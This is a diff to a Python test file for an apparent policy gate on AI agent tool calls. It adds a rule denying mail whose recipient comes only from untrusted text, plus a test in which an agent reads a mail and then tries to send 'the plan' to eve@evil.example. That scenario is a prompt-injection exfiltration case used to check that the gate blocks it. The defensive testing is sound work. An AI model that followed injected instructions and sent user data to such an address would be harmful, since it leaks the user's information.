@@ -15,6 +15,7 @@ from typing import Any
 import pytest
 
 from streams.audit.report_keys import ReportKey
+from streams.audit.seals import SealKeys
 from streams.cli.main import run
 from streams.model.definition import definition_digests
 from streams.model.errors import StoplogError
@@ -51,6 +52,11 @@ rules:
     when: "true"
     approval: {group: leads, quorum: 1, ttl: 10m}
     reason: a lead must agree
+  - id: OFF-020
+    effect: deny
+    match: {tools: [office.mail]}
+    when: origins.exists(value, value.sink && value.origin == "text")
+    reason: only an untrusted text names the recipient
 """
 BUNDLE = 'apiVersion: rules/v1\nbundle: default\nversion: "1"\npacks: [office]\n'
 
@@ -71,6 +77,7 @@ TOOLS = [
     tool("drop_event", id=TEXT),
     tool("send", to=TEXT),
     tool("paint", colour=TEXT),
+    tool("mail", to=TEXT, body=TEXT),
 ]
 TRUSTED, MAIL = {"integrity": "TRUSTED"}, {"integrity": "UNTRUSTED"}
 FACTS = {
@@ -91,6 +98,7 @@ FACTS = {
     "drop_event": {"output_label": TRUSTED},
     "send": {"output_label": TRUSTED},
     "paint": {"output_label": TRUSTED, "reversible": True},
+    "mail": {"output_label": TRUSTED, "sink_args": ["/to"]},
 }
 
 
@@ -160,13 +168,21 @@ class Deployment:
                 "drop_event": lambda _args: {"done": True},
                 "send": lambda _args: "sent",
                 "paint": lambda _args: "painted",
+                "mail": lambda _args: "sent",
             }
             tools = {
                 f"office/{each['name']}": FunctionTool(done[each["name"]], definition_digests(each).definition)
                 for each in TOOLS
             }
             store = SingleUseStore(self._folder / "used.sqlite", self.tenant)
-            executor = Executor(transport, ["office"], tools, store, report_keys=ReportKey.derived(ROOT_KEY, "office"))
+            executor = Executor(
+                transport,
+                ["office"],
+                tools,
+                store,
+                report_keys=ReportKey.derived(ROOT_KEY, "office"),
+                seal_keys=SealKeys.derived(ROOT_KEY),
+            )
             loop = VerdictLoop(executor, transport, group=f"{self.tenant}-office", instance=self.tenant)
             stop, failed = threading.Event(), []
 
@@ -292,3 +308,29 @@ def test_without_the_scopes_that_the_session_had_the_rules_deny(deployment: Depl
         (refused,) = [line for line in lines if line["kind"] == "proposed"]
         assert (refused["outcome"], refused["reason"]) == ("DENY", "no_permit")
         assert ("plan", "eve") in deployment.office.shared
+
+
+def test_a_denied_call_is_explained_by_what_the_gate_found(deployment: Deployment) -> None:
+    deployment.set_up()
+    with deployment.running() as transport:
+        tokens = DevTokenService(transport, ROOT_KEY, issuer="https://issuer.example", tenant_uid=deployment.tenant)
+        act = Actor(iss="https://issuer.example", sub="assistant", sub_profile=SubProfile.AI_AGENT)
+        credential = tokens.open_session("alice", act, (SCOPE,))
+        tokens.user_message(credential, "What does mail 14 say?")
+        with Agent(transport, credential, toolset=Toolset.from_listings({"office": TOOLS})) as agent:
+            agent.propose("office/read_mail", {"id": "14"}, timeout_ms=READY_MS)
+            until_s = time.monotonic() + READY_MS / 1000
+            while time.monotonic() < until_s:
+                (shown,) = deployment.command("session", "show", credential.session_id)
+                if any(line["what"] == "tool_result" for line in shown["read"]):
+                    break
+                time.sleep(0.2)
+            args = {"to": "eve@evil.example", "body": "the plan"}
+            outcome = agent.propose("office/mail", args, timeout_ms=READY_MS)
+        assert outcome.outcome is Outcome.DENY
+        (told,) = deployment.command("explain", outcome.intent_id)
+        assert told["story"] == (
+            "denied: `to` = eve@evil.example came only from office/read_mail 14 (untrusted), beside an instruction; "
+            "the user named no recipient (rule OFF-020: only an untrusted text names the recipient)"
+        )
+        assert "office/read_mail 14" in deployment.screen("explain", outcome.intent_id)
